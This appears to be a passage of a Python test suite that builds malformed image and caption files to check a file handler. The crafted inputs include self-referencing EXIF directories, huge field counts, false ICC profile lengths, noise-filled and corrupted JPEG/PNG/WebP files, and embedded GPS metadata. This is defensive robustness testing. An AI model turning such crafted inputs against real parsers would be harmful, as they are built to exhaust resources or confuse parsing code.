    yield Case("vtt-nul", "captions", "a.vtt", lambda: b"WEBVTT\n\n00:00.000 --> 00:01.000\na\0b\n", "refused")


def _exif(content: bytes, *, times: int = 1) -> bytes:
    return _in_jpeg(b"\xff\xe1", b"Exif\0\0" + content, times=times)


def _notes() -> Iterator[Case]:
    loop = b"II*\0\x08\0\0\0\x01\0\x69\x87\x04\0\x01\0\0\0\x08\0\0\0\x08\0\0\0"
    yield Case("exif-loop", "picture", "a.jpg", lambda: _exif(loop), "harmless")
    yield Case(
        "exif-huge-count",
        "picture",
        "a.jpg",
        lambda: _exif(b"II*\0\x08\0\0\0\x01\0\x0e\x01\x02\0\xff\xff\xff\x7f\x1a\0\0\0\0\0\0\0"),
        "harmless",
    )
    yield Case("exif-many-segments", "picture", "a.jpg", lambda: _exif(bytes(60_000), times=500))
    yield Case("exif-noise", "picture", "a.jpg", lambda: _exif(random.Random(2).randbytes(60_000)))
    yield Case("exif-place", "picture", "a.jpg", lambda: _exif(_GPS), "harmless")
    yield Case(
        "xmp-place",
        "picture",
        "a.jpg",
        lambda: _in_jpeg(b"\xff\xe1", b"http://ns.adobe.com/xap/1.0/\0<x:xmpmeta>Somebody 48.8566</x:xmpmeta>"),
        "harmless",
    )
    for name, profile in {
        "noise": random.Random(3).randbytes(3000), "short": b"\0\0\0\x80", "large-lie": b"\x7f\xff\xff\xff" + bytes(500),
        "script": b"\0\0\1\0" + bytes(32) + b"acsp" + b"somebody " * 24,
    }.items():  # fmt: skip
        head = b"ICC_PROFILE\0\1\1" + profile
        yield Case(f"icc-{name}", "picture", "a.jpg", lambda h=head: _in_jpeg(b"\xff\xe2", h), "harmless")
    yield Case(
        "icc-parts-lie",
        "picture",
        "a.jpg",
        lambda: _in_jpeg(b"\xff\xe2", b"ICC_PROFILE\0\xff\xff" + bytes(999), times=200),
    )
    yield Case(
        "orientation-99",
        "picture",
        "a.jpg",
        lambda: _exif(b"II*\0\x08\0\0\0\x01\0\x12\x01\x03\0\x01\0\0\0\x63\0\0\0\0\0\0\0"),
        "harmless",
    )


# A place on Earth as a camera writes it: GPS directory with latitude and its reference.
_GPS = (
    b"II*\0\x08\0\0\0\x01\0\x25\x88\x04\0\x01\0\0\0\x1a\0\0\0\0\0\0\0"
    b"\x02\0\x01\0\x02\0\x02\0\0\0N\0\0\0\x02\0\x05\0\x03\0\0\0\x38\0\0\0\0\0\0\0"
    b"\x30\0\0\0\1\0\0\0\x33\0\0\0\1\0\0\0\x17\0\0\0\1\0\0\0Somebody"
)


def _noise() -> Iterator[Case]:
    """Good files with some of their bytes changed by chance."""
    for ending in ("jpg", "png", "webp", "tif", "gif", "avif"):
        for seed in range(5):
            yield Case(
                f"{ending}-broken-{seed}", "picture", f"a.{ending}", lambda e=ending, s=seed: _broken(good(e), s)
            )
